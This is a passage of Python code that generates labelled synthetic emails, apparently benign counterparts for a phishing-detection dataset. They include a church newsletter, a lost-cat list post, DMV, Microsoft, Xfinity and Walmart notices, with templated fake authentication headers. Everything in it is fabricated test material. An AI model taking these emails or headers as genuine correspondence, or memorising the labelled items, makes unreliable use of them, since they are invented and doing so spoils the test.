        d=1e100.net; s=20230601; t={ep(t)}; x={ep(t) + 604800};
        h=to:subject:message-id:date:from:mime-version:x-gm-message-state
         :from:to:cc:subject:date:message-id:reply-to;
        bh={bhash("lrc")};
        b={sigf("lrc-xg", 9)}
X-Gm-Message-State: AOJu0Y{b64("lrc-gms", 60)}
X-Google-Smtp-Source: AGHT+I{b64("lrc-gss", 60)}==
X-Received: by 2002:a05:6512:{hexs("lrc-x1", 4)}:b0:{hexs("lrc-x2", 3)}:{hexs("lrc-x3", 4)}:{hexs("lrc-x4", 4)} with SMTP id {hexs("lrc-x5", 11)}-{hexs("lrc-x6", 11)}mr{num("lrc-x7", 7)}.{num("lrc-x8", 2)}.{ep(t)}{num("lrc-x9", 3)};
        {fmt(t - sec(1), "America/Los_Angeles", paren=True)}
MIME-Version: 1.0
From: Dana Whitfield <{snd}>
Date: {fmt(t - sec(2), "America/Los_Angeles")}
X-Gm-Features: AQt7F{b64("lrc-gf", 60)}
Message-ID: {gmail_msgid("lrc")}
Subject: Senior Visual Designer role (Seattle, hybrid) - open to a chat?
To: Emily Sato <{who[1]}>"""
    add("legit-recruiter-jd-pdf", "clean",
        "Genuine staffing-agency recruiter (Google Workspace domain, DMARC pass) reaching out about a specific hybrid design role with salary, a job-description PDF and a Calendly link: unsolicited but ordinary recruiting.",
        "gmail", who[1], t, src, auth, head, body)


# ---- L16. Family photos from a sister's iPhone ----
def _l_family_photos():
    who = LINDA
    t = T("2025-08-10 23:52:16")
    snd = "carla.ruiz63@icloud.com"
    src = Src("57.103.77.21", "p-east3-cluster5-host2-snip4-1.eps.apple.com", "outbound.ms.icloud.com", snd)
    auth = Auth("pass", [("icloud.com", "1a1hai", "pass")], "pass", "quarantine", "icloud.com")
    photos = [files.photo_jpeg(s, (800, 600)) for s in (3, 7, 11)]
    plain = """Hi Lin! Here are a few from the beach today. Sofia finally went in the
water 😂 Mom looked so happy. Wish you could've come, next time!!

Love you
C

Sent from my iPhone
"""
    html = """<html><head><meta http-equiv="content-type" content="text/html; charset=utf-8"></head><body dir="auto"><div dir="ltr">Hi Lin! Here are a few from the beach today. Sofia finally went in the water 😂 Mom looked so happy. Wish you could’ve come, next time!!</div><div dir="ltr"><br></div><div dir="ltr">Love you</div><div dir="ltr">C</div><div dir="ltr"><br></div><div dir="ltr"><img src="cid:""" + uid("lfp-c0", True) + """" alt="IMG_2231.jpeg"></div><div dir="ltr"><img src="cid:""" + uid("lfp-c1", True) + """" alt="IMG_2234.jpeg"></div><div dir="ltr"><img src="cid:""" + uid("lfp-c2", True) + """" alt="IMG_2240.jpeg"><br><br><div dir="ltr">Sent from my iPhone</div></div></body></html>
"""
    names = ["IMG_2231.jpeg", "IMG_2234.jpeg", "IMG_2240.jpeg"]
    parts = [text(plain, encoding="quoted-printable")]
    rel = [text(html, "html")]
    for i, (nme, data) in enumerate(zip(names, photos)):
        rel.append(Leaf("image/jpeg", data, "base64", f'; name="{nme}"; x-apple-part-url={uid("lfp-c" + str(i), True)}',
                        f'inline; filename="{nme}"', [f"Content-Id: <{uid('lfp-c' + str(i), True)}>"]))
    body = Multi("alternative", "Apple-Mail-" + uid("lfp-b1", True), [
        parts[0],
        Multi("related", "Apple-Mail-" + uid("lfp-b2", True), rel, params=' type="text/html";'),
    ])
    head = f"""{dkim("icloud.com", "1a1hai", "Content-Type:Mime-Version:Subject:Message-Id:Date:To:From:x-icloud-hme", "lfp", t)}
Received: from smtpclient.apple (mr38p00im-dlb-asmtp-mailmevip.me.com [17.57.152.18])
\tby p00-icloudmta-asmtp-us-east-1a-10-percent-3 (Postfix) with ESMTPSA id {hexs("lfp-pf", 12, True)}
\tfor <{who[1]}>; {fmt(t - sec(2), comment="UTC")}
From: Carla Ruiz <{snd}>
Mime-Version: 1.0 (1.0)
Date: {fmt(t - sec(9), "America/New_York")}
Subject: =?utf-8?Q?Beach_day_=F0=9F=8C=8A?=
Message-Id: <{uid("lfp-mid", True)}@icloud.com>
To: Linda Marchetti <{who[1]}>
X-Mailer: iPhone Mail (22F76)
X-Proofpoint-ORIG-GUID: {tok("lfp-pp", 32)}
X-Proofpoint-GUID: {tok("lfp-pp", 32)}"""
    add("legit-family-beach-photos", "clean",
        "Personal mail from a sister's iPhone (iCloud, DKIM/DMARC pass) with three inline beach photos and 'Sent from my iPhone': the kind of photo mail that the 'reunion photos' malware imitates.",
        "gmail", who[1], t, src, auth, head, body)


# ---- L17. Church weekly newsletter via Mailchimp (bulk) ----
def _l_church():
    who = PATRICIA
    t = T("2025-10-02 13:30:09")
    dom = "sttimothytampa.org"
    u, cid, lid, e = hexs("lch2-u", 25), hexs("lch2-c", 10), hexs("lch2-l", 10), hexs("lch2-e", 10)
    ck = lambda k: f"https://sttimothytampa.us14.list-manage.com/track/click?u={u}&amp;id={hexs('lch2-k' + k, 10)}&amp;e={e}"  # noqa: E731
    mf = f"bounce-mc.us14_{num('lch2-mf', 8)}.{num('lch2-mf2', 7)}-{e}@mail131.sea91.mcdlv.net"
    src = Src("198.2.135.131", "mail131.sea91.mcdlv.net", "mail131.sea91.mcdlv.net", mf)
    auth = Auth("pass", [(dom, "k2", "pass"), ("mailchimpapp.net", "k3", "pass")], "pass", "none", dom)
    plain = f"""The Messenger - St. Timothy Lutheran Church - October 2, 2025

Grace and peace, friends!

THIS SUNDAY
Worship at 8:30 and 10:45 AM. Blessing of the Animals on the front lawn
after the late service - leashes and carriers, please!

FALL FESTIVAL - SATURDAY OCT 18
Chili cook-off, bounce house and the youth bake sale. Sign up to bring a
dish or volunteer: {ck('ff').replace('&amp;', '&')}

FOOD PANTRY NEEDS
Canned tuna, peanut butter, cereal and diapers (size 4-5). Drop-off bins are
in the narthex.

PRAYER CHAIN
Please keep the Hendricks family and Pastor Ann's mother in your prayers.

Online giving: {ck('give').replace('&amp;', '&')}

St. Timothy Lutheran Church · 4810 W Bay Villa Ave · Tampa, FL 33611
Unsubscribe: https://sttimothytampa.us14.list-manage.com/unsubscribe?u={u}&id={lid}&e={e}&c={cid}
"""
    html = f"""<!doctype html><html><head><meta charset="UTF-8"><meta name="viewport" content="width=device-width, initial-scale=1"><title>The Messenger</title></head>
<body style="margin:0;padding:0;background:#f3efe6;">
<span class="mcnPreviewText" style="display:none;font-size:0px;line-height:0px;max-height:0px;max-width:0px;opacity:0;overflow:hidden;visibility:hidden;mso-hide:all;">Blessing of the Animals, Fall Festival and pantry needs</span>
<center><table width="600" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:Georgia,serif;color:#2b2b2b;">
<tr><td align="center" style="padding:24px;background:#3d5a40;color:#fff;"><span style="font-size:28px;">The Messenger</span><br><span style="font-size:13px;font-family:Arial,sans-serif;">St. Timothy Lutheran Church &middot; October 2, 2025</span></td></tr>
<tr><td style="padding:22px 30px;font-size:16px;line-height:24px;"><p>Grace and peace, friends!</p>
<h3 style="color:#3d5a40;">This Sunday</h3><p>Worship at 8:30 and 10:45 AM. Blessing of the Animals on the front lawn after the late service &ndash; leashes and carriers, please!</p>
<h3 style="color:#3d5a40;">Fall Festival &ndash; Saturday Oct 18</h3><p>Chili cook-off, bounce house and the youth bake sale. <a href="{ck('ff')}" style="color:#8a5a00;">Sign up to bring a dish or volunteer</a>.</p>
<h3 style="color:#3d5a40;">Food Pantry Needs</h3><p>Canned tuna, peanut butter, cereal and diapers (size 4&ndash;5). Drop-off bins are in the narthex.</p>
<h3 style="color:#3d5a40;">Prayer Chain</h3><p>Please keep the Hendricks family and Pastor Ann's mother in your prayers.</p>
<p style="text-align:center;"><a href="{ck('give')}" style="background:#8a5a00;color:#fff;padding:10px 24px;text-decoration:none;font-family:Arial,sans-serif;border-radius:3px;">Online Giving</a></p></td></tr>
<tr><td style="padding:20px 30px;font-family:Helvetica,Arial,sans-serif;font-size:12px;color:#656565;text-align:center;"><em>Copyright (C) 2025 St. Timothy Lutheran Church. All rights reserved.</em><br>You are receiving this email because you are a member or friend of St. Timothy.<br><br>St. Timothy Lutheran Church<br>4810 W Bay Villa Ave<br>Tampa, FL 33611<br><br><a href="https://sttimothytampa.us14.list-manage.com/profile?u={u}&amp;id={lid}&amp;e={e}&amp;c={cid}" style="color:#656565;">update your preferences</a> or <a href="https://sttimothytampa.us14.list-manage.com/unsubscribe?u={u}&amp;id={lid}&amp;e={e}&amp;c={cid}" style="color:#656565;">unsubscribe from this list</a></td></tr>
</table></center>
<img src="https://sttimothytampa.us14.list-manage.com/track/open.php?u={u}&amp;id={cid}&amp;e={e}" height="1" width="1" alt=""></body></html>
"""
    h = "Subject:From:Reply-To:To:Date:Message-ID:List-ID:List-Unsubscribe:List-Unsubscribe-Post:Content-Type:MIME-Version:CC:Date:From:Subject:Message-ID:To"
    head = f"""{dkim(dom, "k2", h, "lch21", t)}
{dkim("mailchimpapp.net", "k3", h, "lch22", t)}
Received: from localhost (localhost [127.0.0.1])
\tby mail131.sea91.mcdlv.net (Mailchimp) with ESMTP id 4cd0{tok("lch2-pf", 8)}
\tfor <{who[1]}>; {fmt(t - sec(1))}
Subject: The Messenger: Blessing of the Animals & Fall Festival
From: =?utf-8?Q?St=2E_Timothy_Lutheran_Church?= <office@{dom}>
Reply-To: =?utf-8?Q?St=2E_Timothy_Lutheran_Church?= <office@{dom}>
To: <{who[1]}>
Date: {fmt(t - sec(1))}
Message-ID: <{hexs("lch2-mid", 32)}.{hexs("lch2-mid2", 32)}@mail131.sea91.mcdlv.net>
X-Mailer: Mailchimp Mailer - **CID{cid}{e}**
X-Campaign: mailchimp{u}.{cid}
X-campaignid: mailchimp{u}.{cid}
X-Report-Abuse: Please report abuse for this campaign here: https://mailchimp.com/contact/abuse/?u={u}&id={cid}&e={e}
X-MC-User: {u}
Feedback-ID: {num("lch2-fb", 8)}:{num("lch2-fb2", 8)}.{num("lch2-fb3", 7)}:us14:mc
List-ID: {u}mc list <{u}.{lid}.list-id.mcsv.net>
X-Accounttype: pd
List-Unsubscribe: <https://sttimothytampa.us14.list-manage.com/unsubscribe?u={u}&id={lid}&e={e}&c={cid}>, <mailto:unsubscribe-mc.us14_{u}.{cid}-{e}@unsubscribe.mailchimpapp.net?subject=unsubscribe>
List-Unsubscribe-Post: List-Unsubscribe=One-Click
MIME-Version: 1.0"""
    add("legit-church-newsletter-mailchimp", "bulk",
        "Genuine weekly parish newsletter from a Lutheran church's own domain via Mailchimp (domain-authenticated DKIM, list headers, tracked links, postal footer): the same platform the hijacked MetaMask campaign used.",
        "yahoo", who[1], t, src, auth, head, alt(plain, html, "_----------=_MCPart_" + num("lch2-b", 10)))


# ---- L18. Neighborhood mailing list on groups.io ----
def _l_neighbors():
    who = FRANK
    t = T("2025-07-22 00:37:52")
    src = Src("66.175.222.108", "mail02.groups.io", "mail02.groups.io", "bounce+82117+2231958+4410728+11094216@groups.io")
    auth = Auth("pass", [("groups.io", "20240228", "pass")], "pass", "none", "groups.io")
    plain = """Hi all,

Our cat Biscuit slipped out this evening around 7 and hasn't come home. He's
an orange tabby, neutered male, about 12 lbs, with a blue collar (no tag,
but he's microchipped). He's very friendly but skittish with dogs.

We're on Darby Rd near the corner of Birchwood. If you could check your
garages and sheds in the morning, we'd really appreciate it. Call or text
Tom at 610-555-0163 any time.

Thanks, neighbors.
Tom & Jen Bristow
"""
    footer = """_._,_._,_
------------------------------------------------------------------------
Groups.io Links:

You receive all messages sent to this group.

View/Reply Online (#2231): https://groups.io/g/birchwood-neighbors/message/2231
Mute This Topic: https://groups.io/mt/114219038/4410728
Group Owner: birchwood-neighbors+owner@groups.io
Unsubscribe: https://groups.io/g/birchwood-neighbors/leave/11094216/4410728/1847296321/xyzzy [fdelgado@comcast.net]
------------------------------------------------------------------------
"""
    html = """<div dir="ltr"><p>Hi all,</p><p>Our cat Biscuit slipped out this evening around 7 and hasn't come home. He's an orange tabby, neutered male, about 12 lbs, with a blue collar (no tag, but he's microchipped). He's very friendly but skittish with dogs.</p><p>We're on Darby Rd near the corner of Birchwood. If you could check your garages and sheds in the morning, we'd really appreciate it. Call or text Tom at 610-555-0163 any time.</p><p>Thanks, neighbors.<br>Tom &amp; Jen Bristow</p></div>
<div width="1" style="color:white;clear:both">_._,_._,_</div> <hr> Groups.io Links:<p> You receive all messages sent to this group. <p> <a target="_blank" href="https://groups.io/g/birchwood-neighbors/message/2231">View/Reply Online (#2231)</a> | <a target="_blank" href="mailto:birchwood-neighbors@groups.io?subject=Re:%20Lost%20cat%20on%20Darby%20Rd%20-%20orange%20tabby">Reply To Group</a> | <a href="mailto:tbristow52@verizon.net?subject=Private:%20Re:%20Lost%20cat%20on%20Darby%20Rd%20-%20orange%20tabby">Reply To Sender</a> | <a href="https://groups.io/mt/114219038/4410728">Mute This Topic</a> | <a href="https://groups.io/g/birchwood-neighbors/post">New Topic</a><br> <a href="https://groups.io/g/birchwood-neighbors/editsub/4410728">Your Subscription</a> | <a href="mailto:birchwood-neighbors+owner@groups.io">Contact Group Owner</a> | <a href="https://groups.io/g/birchwood-neighbors/leave/11094216/4410728/1847296321/xyzzy">Unsubscribe</a> [fdelgado@comcast.net]<br> <div width="1" style="color:white;clear:both">_._,_._,_</div>
"""
    bnd = hexs("lnb-b", 60)
    head = f"""{dkim("groups.io", "20240228", "Subject:Sender:List-Id:List-Post:List-Help:List-Unsubscribe:List-Owner:Reply-To:From:To:Date:Message-ID:Content-Type", "lnb", t)}
X-Received: by 127.0.0.2 with SMTP id {num("lnb-x", 6)}YY{num("lnb-x2", 7)}; {t.strftime('%a, %d %b %Y %H:%M:%S')} -0700
X-Received: from sonic302-21.consmr.mail.bf2.yahoo.com (sonic302-21.consmr.mail.bf2.yahoo.com [74.6.135.{num("lnb-y", 2)}])
 by mx.groups.io with SMTP id smtpd.msgproc02-g2.{num("lnb-sm", 5)}.{ep(t) - 4}{num("lnb-sm2", 3)}
 for <birchwood-neighbors@groups.io>;
 {fmt(t - sec(5), "America/Los_Angeles")}
X-Sonic-MF: <tbristow52@verizon.net>
X-Sonic-ID: {uid("lnb-son")}
Date: {fmt(t - sec(6), "America/New_York")}
From: "Tom Bristow via groups.io" <tbristow52=verizon.net@groups.io>
To: birchwood-neighbors@groups.io
Message-ID: <{num("lnb-m1", 9)}.{num("lnb-m2", 7)}.{ep(t) - 6}{num("lnb-m3", 3)}@mail.yahoo.com>
Subject: [Birchwood-Neighbors] Lost cat on Darby Rd - orange tabby
MIME-Version: 1.0
X-Mailer: WebService/1.1.24187 YMailNorrin
Precedence: Bulk
List-Subscribe: <mailto:birchwood-neighbors+subscribe@groups.io>
List-Help: <mailto:birchwood-neighbors+help@groups.io>
Sender: birchwood-neighbors@groups.io
List-Id: <birchwood-neighbors.groups.io>
Mailing-List: list birchwood-neighbors@groups.io; contact birchwood-neighbors+owner@groups.io
List-Post: <mailto:birchwood-neighbors@groups.io>
List-Owner: <mailto:birchwood-neighbors+owner@groups.io>
Delivered-To: mailing list birchwood-neighbors@groups.io
Reply-To: birchwood-neighbors@groups.io,tbristow52@verizon.net
List-Unsubscribe-Post: List-Unsubscribe=One-Click
List-Unsubscribe: <https://groups.io/g/birchwood-neighbors/leave/11094216/4410728/1847296321/xyzzy>"""
    add("legit-neighborhood-list-lost-cat", "clean",
        "Genuine neighborhood mailing-list post on groups.io (From rewritten for DMARC, List-* headers, groups.io DKIM) about a lost cat with a neighbor's phone number: personal community mail a careless filter may treat as bulk or scam.",
        "comcast", who[1], t, src, auth, head, Multi("alternative", bnd, [text(plain + "\n" + footer), text(html, "html")]))


# ---- L19. Texas DMV registration renewal reminder ----
def _l_txdmv():
    who = MARCUS
    t = T("2025-08-20 14:10:22")
    snd = "TxDMV-NoReply@txdmv.gov"
    src = Src("40.107.236.71", "mail-bn7nam10on2071.outbound.protection.outlook.com", "NAM10-BN7-obe.outbound.protection.outlook.com", snd)
    auth = Auth("pass", [("txdmv.gov", "selector1", "pass")], "pass", "reject", "txdmv.gov")
    plain = """Texas Department of Motor Vehicles
Registration Renewal Reminder

MARCUS BELL

Your vehicle registration is due for renewal.

Vehicle: 2021 FORD F-150
License plate: ***-7HK
Expiration: 09/2025

Renew online at https://www.txdmv.gov/motorists/register-your-vehicle
or in person at your county tax assessor-collector's office. You will need a
passing vehicle inspection on record and proof of insurance.

Renewing online? Texas by Texas (TxT) lets you renew in a few minutes.

Please do not reply to this email. This mailbox is not monitored.
Texas Department of Motor Vehicles, 4000 Jackson Ave, Austin, TX 78731
"""
    html = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=us-ascii"></head>
<body><div style="font-family:Arial,sans-serif;font-size:11pt;color:#222;">
<table width="620" cellpadding="0" cellspacing="0"><tr><td style="background:#14375a;color:#fff;padding:14px 18px;font-size:16pt;"><b>Texas Department of Motor Vehicles</b><br><span style="font-size:10pt;">Registration Renewal Reminder</span></td></tr>
<tr><td style="padding:16px 18px;">MARCUS BELL<br><br>Your vehicle registration is due for renewal.<br><br>
<table cellpadding="3" style="font-size:11pt;"><tr><td>Vehicle:</td><td><b>2021 FORD F-150</b></td></tr><tr><td>License plate:</td><td>***-7HK</td></tr><tr><td>Expiration:</td><td><b>09/2025</b></td></tr></table><br>
Renew online at <a href="https://www.txdmv.gov/motorists/register-your-vehicle">TxDMV.gov</a> or in person at your county tax assessor-collector's office. You will need a passing vehicle inspection on record and proof of insurance.<br><br>Renewing online? Texas by Texas (TxT) lets you renew in a few minutes.</td></tr>
<tr><td style="padding:12px 18px;font-size:9pt;color:#666;border-top:1px solid #ccc;">Please do not reply to this email. This mailbox is not monitored.<br>Texas Department of Motor Vehicles, 4000 Jackson Ave, Austin, TX 78731</td></tr></table>
</div></body></html>
"""
    pod = "SA1PR09MB" + num("ltx-pod", 4)
    mid = f"<{pod}{hexs('ltx-mid', 24, True)}@{pod}.namprd09.prod.outlook.com>"
    head = f"""ARC-Seal: i=1; a=rsa-sha256; s=arcselector10001; d=microsoft.com; cv=none;
 b={sigf("ltx-as", 1)}
ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=microsoft.com;
 s=arcselector10001;
 h=From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-AntiSpam-MessageData-ChunkCount:X-MS-Exchange-AntiSpam-MessageData-0:X-MS-Exchange-AntiSpam-MessageData-1;
 bh={bhash("ltx")};
 b={sigf("ltx-am", 1)}
ARC-Authentication-Results: i=1; mx.microsoft.com 1; spf=pass
 smtp.mailfrom=txdmv.gov; dmarc=pass action=none header.from=txdmv.gov;
 dkim=pass header.d=txdmv.gov; arc=none
DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d=txdmv.gov; s=selector1;
 h=From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck;
 bh={bhash("ltx")};
 b={sigf("ltx-dk", 1)}
Received: from {pod}.namprd09.prod.outlook.com (2603:10b6:806:{hexs("ltx-r1", 3)}::{hexs("ltx-r2", 2)})
 by {pod}.namprd09.prod.outlook.com with Microsoft SMTP Server (version=TLS1_2,
 cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.9031.24; {fmt(t - sec(1))}
From: TxDMV <{snd}>
To: "{who[1]}" <{who[1]}>
Subject: Your Texas vehicle registration expires 09/2025
Thread-Topic: Your Texas vehicle registration expires 09/2025
Thread-Index: AQHcEc{b64("ltx-ti", 22)}==
Date: {fmt(t - sec(2))}
Message-ID: {mid}
Accept-Language: en-US
Content-Language: en-US
X-MS-Has-Attach:
X-MS-TNEF-Correlator:
MIME-Version: 1.0"""
    add("legit-txdmv-registration-reminder", "clean",
        "Genuine Texas DMV registration renewal reminder from txdmv.gov's Microsoft 365 tenant (DMARC pass) with masked plate, expiration month and a link to txdmv.gov only: the real counterpart of the DMV fine lures.",
        "gmail", who[1], t, src, auth, head, alt(plain, html, f"_000_{pod}{hexs('ltx-mid', 24, True)}{pod.lower()}namp_"))


# ---- L20. Microsoft account: security info added ----
def _l_msa():
    who = ROSEMARY
    t = T("2025-01-21 02:19:40")
    dom = "accountprotection.microsoft.com"
    src = Src("40.107.220.40", "mail-co1nam11on2040.outbound.protection.outlook.com", "NAM11-CO1-obe.outbound.protection.outlook.com", f"account-security-noreply@{dom}")
    auth = Auth("pass", [(dom, "selector1", "pass")], "pass", "reject", dom)
    plain = """Microsoft account

Security info was added

The following security info was recently added to the Microsoft account ro*****@outlook.com:

+X XXXXXXXX47

If this was you, then you can safely ignore this email.

If this wasn't you, a malicious user has access to your password. Please review your recent activity and we'll help you take corrective action.
Review recent activity: https://account.live.com/Activity

To opt out or change where you receive security notifications, click here: https://account.live.com/SecurityNotifications/Update

Thanks,
The Microsoft account team
"""
    html = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body>
<table dir="ltr"><tr><td id="i1" style="padding:0;font-family:'Segoe UI Semibold','Segoe UI Bold','Segoe UI','Helvetica Neue Medium',Arial,sans-serif;font-size:17px;color:#707070;">Microsoft account</td></tr>
<tr><td id="i2" style="padding:0;font-family:'Segoe UI Light','Segoe UI','Helvetica Neue Medium',Arial,sans-serif;font-size:41px;color:#2672ec;">Security info was added</td></tr>
<tr><td id="i3" style="padding:0;padding-top:25px;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a;">The following security info was recently added to the Microsoft account <a dir="ltr" id="iAccount" class="link" style="color:#2672ec;text-decoration:none;" href="mailto:ro*****@outlook.com">ro*****@outlook.com</a>:</td></tr>
<tr><td id="i4" style="padding:0;padding-top:25px;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a;">+X XXXXXXXX47</td></tr>
<tr><td id="i5" style="padding:0;padding-top:25px;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a;">If this was you, then you can safely ignore this email.</td></tr>
<tr><td id="i6" style="padding:0;padding-top:25px;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a;">If this wasn't you, a malicious user has access to your password. Please <a id="iLink2" class="link" style="color:#2672ec;text-decoration:none;" href="https://account.live.com/Activity">review your recent activity</a> and we'll help you take corrective action.</td></tr>
<tr><td id="i7" style="padding:0;padding-top:25px;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a;">To opt out or change where you receive security notifications, <a id="iLink3" class="link" style="color:#2672ec;text-decoration:none;" href="https://account.live.com/SecurityNotifications/Update">click here</a>.</td></tr>
<tr><td id="i8" style="padding:0;padding-top:25px;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a;">Thanks,</td></tr>
<tr><td id="i9" style="padding:0;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a;">The Microsoft account team</td></tr>
</table></body></html>
"""
    pod = "BN3PR08MB" + num("lms-pod", 4)
    head = f"""{dkim(dom, "selector1", "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck", "lms", t)}
Received: from {pod}.namprd08.prod.outlook.com (2603:10b6:408:{hexs("lms-r1", 3)}::{hexs("lms-r2", 2)})
 by {pod}.namprd08.prod.outlook.com with Microsoft SMTP Server (version=TLS1_2,
 cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.8356.20; {fmt(t - sec(1))}
MIME-Version: 1.0
From: Microsoft account team <account-security-noreply@{dom}>
To: {who[1]}
Date: {fmt(t - sec(1))}
Subject: Microsoft account security info was added
Message-ID: <{uid("lms-mid", True)}@az.westus.microsoft.com>
X-MSA-NotificationType: SecurityInfoAdded"""
    add("legit-microsoft-security-info-added", "clean",
        "Genuine Microsoft account 'security info was added' notification from account-security-noreply@accountprotection.microsoft.com (DMARC pass), masked account and phone, links to account.live.com: the template the mail.com 'unusual sign-in' phish copies.",
        "outlook", who[1], t, src, auth, head, alt(plain, html, "--boundary_" + num("lms-b", 4) + "_" + uid("lms-bb")))


# ---- L21. Xfinity bill ready ----
def _l_xfinity():
    who = CAROL
    t = T("2025-06-03 10:22:18")
    dom = "alerts.comcast.net"
    src = Src("96.114.154.171", "resqmta-po-12v.sys.comcast.net", "resqmta-po-12v.sys.comcast.net", f"online.communications@{dom}")
    auth = Auth("pass", [(dom, "20190202a", "pass")], "pass", "reject", dom)
    plain = """Xfinity

Your bill is ready

Hi Carol,

Your Xfinity bill for account ending in 8817 is ready.

Amount due: $142.37
Due date: June 21, 2025

You're enrolled in automatic payments. We'll charge your payment method on
file on June 21, 2025. No action is needed.

View your bill: https://customer.xfinity.com/#/billing

Thank you for being a valued Xfinity customer.

Xfinity, 1701 JFK Blvd, Philadelphia, PA 19103
This is a service-related email. Please do not reply.
"""
    html = """<!DOCTYPE html><html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="margin:0;background:#f2f2f2;">
<table width="600" align="center" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:'Xfinity Standard',Helvetica,Arial,sans-serif;color:#1a1a1a;">
<tr><td style="padding:24px 30px;"><img src="https://assets.xfinity.com/email/xfinity-logo-black.png" width="100" alt="Xfinity"></td></tr>
<tr><td style="padding:0 30px;font-size:28px;font-weight:bold;">Your bill is ready</td></tr>
<tr><td style="padding:18px 30px;font-size:16px;line-height:24px;">Hi Carol,<br><br>Your Xfinity bill for account ending in 8817 is ready.</td></tr>
<tr><td style="padding:0 30px;"><table width="100%" cellpadding="10" cellspacing="0" style="background:#f7f7f7;font-size:15px;"><tr><td>Amount due</td><td align="right"><b>$142.37</b></td></tr><tr><td>Due date</td><td align="right">June 21, 2025</td></tr></table></td></tr>
<tr><td style="padding:18px 30px;font-size:15px;line-height:22px;">You're enrolled in automatic payments. We'll charge your payment method on file on June 21, 2025. No action is needed.</td></tr>
<tr><td style="padding:0 30px 24px 30px;"><a href="https://customer.xfinity.com/#/billing" style="background:#1f69ff;color:#fff;padding:12px 26px;border-radius:24px;text-decoration:none;font-weight:bold;">View your bill</a></td></tr>
<tr><td style="padding:18px 30px;font-size:11px;color:#6b6b6b;background:#f2f2f2;">Xfinity, 1701 JFK Blvd, Philadelphia, PA 19103<br>This is a service-related email. Please do not reply. <a href="https://www.xfinity.com/privacy" style="color:#6b6b6b;">Privacy Policy</a></td></tr>
</table></body></html>
"""
    head = f"""{dkim(dom, "20190202a", "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", "lxf", t)}
Received: from notifsvc-po-{num("lxf-n", 2)}v.sys.comcast.net ([96.118.{num("lxf-i", 2)}.{num("lxf-i2", 2)}])
\tby resqmta-po-12v.sys.comcast.net with ESMTP
\tid {tok("lxf-id", 22)}; {fmt(t - sec(1))}
From: Xfinity <online.communications@{dom}>
To: {who[1]}
Subject: Your Xfinity bill is ready
Date: {fmt(t - sec(2), "America/New_York")}
Message-ID: <{uid("lxf-mid")}@notifsvc.comcast.net>
MIME-Version: 1.0
X-Xfinity-Notification: BILL_READY"""
    add("legit-xfinity-bill-ready", "clean",
        "Genuine Xfinity 'your bill is ready' notice from online.communications@alerts.comcast.net on Comcast's own MTAs (DMARC pass): autopay enrolled, no action needed, link to customer.xfinity.com.",
        "comcast", who[1], t, src, auth, head, alt(plain, html, "----=_Part_" + num("lxf-b", 7) + "_" + num("lxf-b2", 9) + "." + str(ep(t)) + "332"))


# ---- L22. Walmart order shipped ----
def _l_walmart():
    who = BEVERLY
    t = T("2025-04-11 18:45:02")
    dom = "walmart.com"
    src = Src("13.111.47.88", "mta.e.walmart.com", "mta.e.walmart.com", f"bounce-{num('lwm-mf', 4)}_HTML-{num('lwm-mf2', 9)}@bounce.e.walmart.com")
    auth = Auth("pass", [(dom, "wm2024", "pass")], "pass", "reject", dom)
    c = lambda k: sfmc_link("click.e.walmart.com", "lwm-" + k)  # noqa: E731
    plain = f"""Walmart

Your order shipped! Arriving Mon, Apr 14

Hi Beverly, your package is on its way.

Order# 2000129-71834406

Mainstays 6-Shelf Bookcase, Espresso    Qty 1    $39.97
Great Value Paper Towels, 12 Rolls      Qty 2    $35.94

Track your package: {c('trk')}

Shipping to: Beverly Haines, Macon, GA 31210

Questions? Visit Help Center: https://www.walmart.com/help

Walmart.com, 702 SW 8th St, Bentonville, AR 72716
"""
    html = f"""<!DOCTYPE html><html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="margin:0;background:#f2f8fd;">
<table width="600" align="center" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:Bogle,'Helvetica Neue',Arial,sans-serif;color:#2e2f32;">
<tr><td style="background:#0071dc;padding:16px 24px;"><a href="{c('logo')}"><img src="https://i5.walmartimages.com/dfw/63fd9f59-b3e1/7a569e53-f29a-4c3d-bfaf-6f7a158bfadd/v1/walmartLogo.png" width="110" alt="Walmart"></a></td></tr>
<tr><td style="padding:22px 24px 6px 24px;font-size:24px;font-weight:bold;">Your order shipped! Arriving Mon, Apr 14</td></tr>
<tr><td style="padding:0 24px;font-size:15px;">Hi Beverly, your package is on its way.</td></tr>
<tr><td style="padding:16px 24px;"><a href="{c('trk')}" style="background:#0071dc;color:#fff;padding:11px 26px;border-radius:20px;text-decoration:none;font-weight:bold;">Track package</a></td></tr>
<tr><td style="padding:0 24px;font-size:13px;color:#74767c;">Order# 2000129-71834406</td></tr>
<tr><td style="padding:10px 24px;"><table width="100%" cellpadding="8" cellspacing="0" style="font-size:14px;border-top:1px solid #e3e4e5;"><tr><td>Mainstays 6-Shelf Bookcase, Espresso</td><td>Qty 1</td><td align="right">$39.97</td></tr><tr><td>Great Value Paper Towels, 12 Rolls</td><td>Qty 2</td><td align="right">$35.94</td></tr></table></td></tr>
